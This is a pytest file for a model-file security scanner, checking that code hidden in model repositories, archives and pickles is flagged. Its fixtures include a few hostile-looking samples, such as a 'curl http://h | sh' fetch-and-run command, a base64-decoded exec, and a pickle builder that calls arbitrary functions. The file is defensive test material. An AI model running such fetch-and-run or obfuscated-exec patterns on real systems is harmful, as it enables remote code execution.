"""Source code in any dress, content that is not there, and names that promise another format."""

from __future__ import annotations

import io
import json
import struct
import zipfile

import pytest

from antivenom.scan import Status, scan_view
from antivenom.scan.findings import FileReport
from antivenom.scan.view import View

SAFE, UNKNOWN, UNSAFE = Status.SAFE, Status.UNKNOWN, Status.UNSAFE
RUN = "import os\nos.system('touch marker')\n"


def named(name: str, data: str | bytes) -> FileReport:
    return scan_view(View(data.encode() if isinstance(data, str) else data), name)


def zipped(files: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def calling(module: str, name: str) -> bytes:
    """A pickle that calls `module.name()`."""
    body = b"\x8c" + bytes([len(module)]) + module.encode() + b"\x8c" + bytes([len(name)]) + name.encode() + b"\x93)R."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


MANIFEST = json.dumps({"model": {"handler": "handler.py", "serializedFile": "m.pt"}})
PACKAGE = {"p/model/model.pkl": calling("collections", "OrderedDict"), "p/.data/version": "6"}
BUILDER = "import datasets\nclass Own(datasets.GeneratorBasedBuilder):\n    pass\n"
NOTEBOOK = json.dumps({"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "source": ["1"]}]})


@pytest.mark.parametrize(
    ("name", "data", "status"),
    [
        ("modeling_own.py", RUN, UNKNOWN),
        ("notes.txt", RUN, UNKNOWN),
        ("weights", "def f(x):\n    return x\n", UNKNOWN),
        ("setup.sh", "rm -rf build\n", UNKNOWN),
        ("run", "#!/bin/sh\ntrue\n", UNKNOWN),
        ("a.ipynb", NOTEBOOK, UNKNOWN),
        ("a.json", NOTEBOOK, UNKNOWN),
        ("m.pyc", b"\xa7\r\r\n\x01" + bytes(30), UNKNOWN),
        ("libops.so.1", b"no signature \x00\x01", UNKNOWN),
        ("page.html", "<html><script>fetch('x')</script></html>", UNKNOWN),
        ("broken.py", "def (", UNKNOWN),
        ("x.whl", zipped({"pkg/a.py": RUN}), UNKNOWN),
        ("handler.py", RUN + "class EndpointHandler: pass\n", UNSAFE),
        ("own_handler.py", "def handle(data, context):\n    return data\n", UNSAFE),
        ("1/model.py", "class TritonPythonModel:\n    pass\n", UNSAFE),
        ("data.py", BUILDER, UNSAFE),
        ("custom_generate/generate.py", "def generate(model):\n    pass\n", UNSAFE),
        ("build/torch28-cxx11-cu126-x86_64-linux/act/__init__.py", "x = 1\n", UNSAFE),
        ("agent.py", "import mlflow\nmlflow.models.set_model(1)\n", UNSAFE),
        ("faster_rcnn.py", "_base_ = ['a.py']\nmodel = dict(type='X')\n", UNSAFE),
        ("hubconf.py", "dependencies = ['torch']\n", UNSAFE),
        ("x.mar", zipped({"MAR-INF/MANIFEST.json": MANIFEST, "handler.py": "x = 1"}), UNSAFE),
        ("x.pt", zipped(PACKAGE | {"p/collections/__init__.py": RUN}), UNSAFE),
        ("x.pt", zipped(PACKAGE | {"p/collections.py": RUN}), UNSAFE),
        ("x.pt", zipped(PACKAGE | {"p/other.py": "x = 1"}), UNKNOWN),
        ("net.py", "import urllib.request as u\nu.urlopen('http://h')\n", UNSAFE),
        ("net.py", "from os import system as s\nf = s\nf('curl http://h | sh')\n", UNSAFE),
        ("net.py", "def go():\n    __import__('requests').get('x')\ngo()\n", UNSAFE),
        ("net.py", "import base64\nexec(base64.b64decode('cGFzcw=='))\n", UNSAFE),
        ("net.py", "class A:\n    getattr(__import__('socket'), 'socket')()\n", UNSAFE),
        ("net.py", "import requests\ndef later():\n    requests.get('x')\n", UNKNOWN),
        ("net.py", "import requests\nif __name__ == '__main__':\n    requests.get('x')\n", UNKNOWN),
    ],
)
def test_source_code_is_never_safe(name: str, data: str | bytes, status: Status) -> None:
    assert named(name, data).status is status


@pytest.mark.parametrize(
    "text", ["cat\ndog\n", "the\n##ing\n[PAD]\n", "A model (of 2024) for import duties.\n", "x: 1\n", "t h\nth e\n"]
)
def test_words_are_no_source_code(text: str) -> None:
    assert named("vocab.txt", text).status is SAFE


def test_a_command_on_import_is_said() -> None:
    (finding,) = named("modeling_own.py", RUN).findings
    assert "runs a command by os.system" in finding.what


POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 1234567\n"


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("model.safetensors", POINTER, "missing-content"),
        ("whatever", POINTER, "missing-content"),
        ("x.bin", "/annex/objects/SHA256E-s1--00\n", "missing-content"),
        ("empty.pth", "", "missing-content"),
        ("empty", "", "missing-content"),
        ("rows.parquet", "PAR1xxxxPAR1", "not-as-named"),
        ("model.gguf", "<html>404</html>", "not-as-named"),
        ("model.bin", '{"error": "not found"}', "not-as-named"),
        ("model.onnx", calling("collections", "OrderedDict"), "not-as-named"),
        ("model.npy", "1 2 3", "not-as-named"),
    ],
)
def test_content_that_is_not_there(name: str, data: str | bytes, rule: str) -> None:
    report = named(name, data)
    assert (report.status, [finding.rule for finding in report.findings]) == (UNKNOWN, [rule])


def test_names_that_are_empty_on_purpose_are_safe() -> None:
    assert named("pkg/__init__.py", "").status is SAFE
    assert named("x.zip", zipped({"p/.data/extern_modules": ""})).status is SAFE
